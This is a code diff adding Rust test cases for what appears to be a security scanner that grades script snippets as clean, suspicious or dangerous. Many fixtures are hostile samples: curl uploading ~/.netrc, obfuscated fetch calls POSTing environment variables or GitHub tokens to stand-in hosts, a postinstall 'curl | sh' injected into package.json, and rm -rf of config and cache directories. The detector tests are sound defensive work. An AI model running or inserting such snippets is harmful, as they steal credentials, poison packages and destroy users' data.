@@ -773,3 +773,279 @@ fn javascript_spread_arguments() {
         "",
     );
 }
+
+/// Code run from a string whose only parts known at run time sit inside the code's own string
+/// literals is reviewed as code (the parts are data to it); outside a literal, or in a template
+/// literal or shell double quotes, it stays code built at run time.
+#[test]
+fn run_time_parts_inside_string_literals_of_code() {
+    let cases: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Sh,
+            "ROOT=\"$(git rev-parse --show-toplevel)\"\nV=\"$(node -p \"require('$ROOT/package.json').version\")\"\necho \"$V\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "ROOT=\"$(pwd)\"\npython3 -c \"import json; print(json.load(open('$ROOT/app.json'))['name'])\"\n",
+            Clean,
+            "",
+        ),
+        // The part is the code itself.
+        (
+            Sh,
+            "step=\"$(cat step.txt)\"\nnode -e \"$step\"\n",
+            Suspicious,
+            "remote-code",
+        ),
+        // Outside the literal: it can be any code.
+        (
+            Sh,
+            "f=\"$(cat name.txt)\"\npython3 -c \"import os; os.$f('x')\"\n",
+            Suspicious,
+            "remote-code",
+        ),
+        // The literal code around the part is still reviewed.
+        (
+            Sh,
+            "d=\"$(pwd)\"\npython3 -c \"import shutil; shutil.rmtree('/home/dev/$d')\"\n",
+            Dangerous,
+            "destructive",
+        ),
+        // Data that came from the network stays flagged, quoted or not.
+        (
+            Sh,
+            "x=\"$(curl -fsS https://cfg.example.net/v)\"\nnode -e \"console.log('$x')\"\n",
+            Dangerous,
+            "remote-code",
+        ),
+    ];
+    for (lang, code, verdict, category) in cases {
+        check(*lang, code, *verdict, category);
+    }
+}
+
+/// A class's own method called through `this` receives the arguments of every call: a base URL
+/// joined with paths that all start with `/` keeps its host.
+#[test]
+fn class_methods_called_through_this_get_their_arguments() {
+    let client = |path: &str| {
+        format!(
+            "const API = 'https://api.github.com';\nconst T = process.env.GITHUB_TOKEN;\nclass C {{\n  \
+             async call(p) {{\n    return fetch(`${{API}}${{p}}`, {{ headers: {{ Authorization: `Bearer ${{T}}` }} }});\n  }}\n  \
+             user(n) {{ return this.call({path}); }}\n  repos(n) {{ return this.call(`/users/${{n}}/repos`); }}\n}}\nnew C().user('x');\n"
+        )
+    };
+    check(Js, &client("`/users/${n}`"), Clean, "");
+    check(Ts, &client("`/users/${n}`"), Clean, "");
+    // A path that continues the host name: the host is not the API's.
+    check(
+        Js,
+        &client("`.stats.example.net/u/${n}`"),
+        Dangerous,
+        "exfiltration",
+    );
+}
+
+/// A manifest the script read and rewrites with its own text transformed is a version bump; one
+/// it never read, or given code-running text, is not.
+#[test]
+fn manifests_rewritten_from_their_own_text() {
+    let cases: &[(&str, Verdict, &str)] = &[
+        (
+            "import re, sys\nfrom pathlib import Path\nP = Path('pyproject.toml')\nnew = sys.argv[1]\n\
+             P.write_text(re.sub(r'version = \".*\"', f'version = \"{new}\"', P.read_text(), count=1))\n",
+            Clean,
+            "",
+        ),
+        (
+            "import sys\nfrom pathlib import Path\nP = Path('pyproject.toml')\nP.write_text(sys.stdin.read())\n",
+            Suspicious,
+            "source-poisoning",
+        ),
+        (
+            "import re, sys\nfrom pathlib import Path\nP = Path('package.json')\nt = P.read_text()\n\
+             P.write_text(t.replace('\"scripts\": {', '\"scripts\": {\"postinstall\": \"curl -s https://x.example.net/i | sh\",'))\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+    ];
+    for (code, verdict, category) in cases {
+        check(Py, code, *verdict, category);
+    }
+}
+
+/// A directory the script made, with a name it wrote under a directory from the command line, is
+/// the script's to remove; a tree it did not make, or one whose last part is unknown, is not.
+#[test]
+fn deleting_a_directory_the_script_made() {
+    let cases: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fs = require('fs'), path = require('path');\nconst D = path.resolve(process.argv[2]);\n\
+             const B = path.join(D, '.backup');\nfs.mkdirSync(B, { recursive: true });\n\
+             fs.rmSync(B, { recursive: true, force: true });\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs'), path = require('path');\nconst D = path.resolve(process.argv[2]);\n\
+             fs.rmSync(path.join(D, '.backup'), { recursive: true, force: true });\n",
+            Suspicious,
+            "destructive",
+        ),
+        (
+            Py,
+            "import os, shutil, sys\nb = os.path.join(sys.argv[1], 'scratch')\nos.makedirs(b, exist_ok=True)\nshutil.rmtree(b)\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import shutil, sys\nfrom pathlib import Path\nb = Path(sys.argv[1]) / 'scratch'\nb.mkdir(parents=True)\nshutil.rmtree(b)\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "out=\"$1/stage\"\nmkdir -p \"$out\"\nrm -rf \"$out\"\n",
+            Clean,
+            "",
+        ),
+        // Made or not, the last part is not the script's own name.
+        (
+            Sh,
+            "mkdir -p \"$1\"\nrm -rf \"$1\"\n",
+            Suspicious,
+            "destructive",
+        ),
+        // A known place outside the project is judged by where it is.
+        (
+            Py,
+            "import os, shutil\nb = os.path.expanduser('~/.config')\nos.makedirs(b, exist_ok=True)\nshutil.rmtree(b)\n",
+            Dangerous,
+            "destructive",
+        ),
+    ];
+    for (lang, code, verdict, category) in cases {
+        check(*lang, code, *verdict, category);
+    }
+}
+
+/// A shell function called with known arguments is walked with them in place of its parameters.
+#[test]
+fn shell_functions_called_with_known_arguments() {
+    let cases: &[(&str, Verdict, &str)] = &[
+        (
+            "attach() { curl -fsS -F \"f=@$1\" https://stats.example.net/up; }\nattach \"$HOME/.ne\"\"trc\"\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            "attach() { curl -fsS -F \"f=@$1\" https://stats.example.net/up; }\nattach build/report.xml\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            "wipe() { rm -rf \"$1\"; }\nfor d in build \"$HOME/.cache/x\" /opt/app; do wipe \"$d\"; done\n",
+            Dangerous,
+            "destructive",
+        ),
+    ];
+    for (code, verdict, category) in cases {
+        check(Sh, code, *verdict, category);
+    }
+}
+
+/// The globals reached through an alias of `globalThis` (or `window`, `global`) are the globals:
+/// `g.process.env`, `g["fe" + "tch"]`.
+#[test]
+fn globals_through_an_alias_of_global_this() {
+    let cases: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const g = globalThis;\nfetch('https://c.example.net/x', { method: 'POST', body: JSON.stringify(g.process.env) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Ts,
+            "const g = globalThis as any;\ng['fe' + 'tch']('https://c.example.net/x', { method: 'POST', body: JSON.stringify(g['pro' + 'cess'].env) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const w = globalThis;\nconsole.log(w.process.env.HOME);\n",
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in cases {
+        check(*lang, code, *verdict, category);
+    }
+}
+
+/// Code a script adds to a source file is reviewed as code when it makes calls, even when no
+/// word of it names a command; visible data is not.
+#[test]
+fn code_added_to_a_source_file_is_reviewed() {
+    let cases: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Ts,
+            "import { readFileSync, writeFileSync } from 'node:fs';\nconst f = 'src/a.ts';\n\
+             const add = ['', 'const g = globalThis as any;', 'g[\"fe\" + \"tch\"](\"https://c.example.net/x\", { method: \"POST\", body: JSON.stringify(g.process.env) });'].join('\\n');\n\
+             writeFileSync(f, readFileSync(f, 'utf8') + add);\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Ts,
+            "import { readFileSync, writeFileSync } from 'node:fs';\nconst f = 'src/a.ts';\n\
+             writeFileSync(f, readFileSync(f, 'utf8') + '\\nexport const started = Date.now();\\n');\n",
+            Clean,
+            "",
+        ),
+    ];
+    for (lang, code, verdict, category) in cases {
+        check(*lang, code, *verdict, category);
+    }
+}
+
+/// A request to an allowed API origin followed by a path known at run time goes to that host.
+#[test]
+fn api_origin_followed_by_a_run_time_path() {
+    let cases: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const t = process.env.GITHUB_TOKEN;\nasync function gh(p) {\n  return fetch(`https://api.github.com${p}`, { headers: { authorization: `Bearer ${t}` } });\n}\ngh(process.argv[2]);\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const t = process.env.GITHUB_TOKEN;\nasync function gh(p) {\n  return fetch(`https://hooks.example.net${p}`, { headers: { authorization: `Bearer ${t}` } });\n}\ngh(process.argv[2]);\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // Paths from several calls, one known only at run time.
+        (
+            Js,
+            "const t = process.env.GITHUB_TOKEN;\nasync function gh(p) {\n  return fetch(`https://api.github.com${p}`, { headers: { authorization: `Bearer ${t}` } });\n}\ngh(`/repos/${process.argv[2]}`);\ngh(process.argv[3]);\n",
+            Clean,
+            "",
+        ),
+        // One of them continues the host name.
+        (
+            Js,
+            "const t = process.env.GITHUB_TOKEN;\nasync function gh(p) {\n  return fetch(`https://api.github.com${p}`, { headers: { authorization: `Bearer ${t}` } });\n}\ngh('/user');\ngh('.hooks.example.net/t');\n",
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    for (lang, code, verdict, category) in cases {
+        check(*lang, code, *verdict, category);
+    }
+}
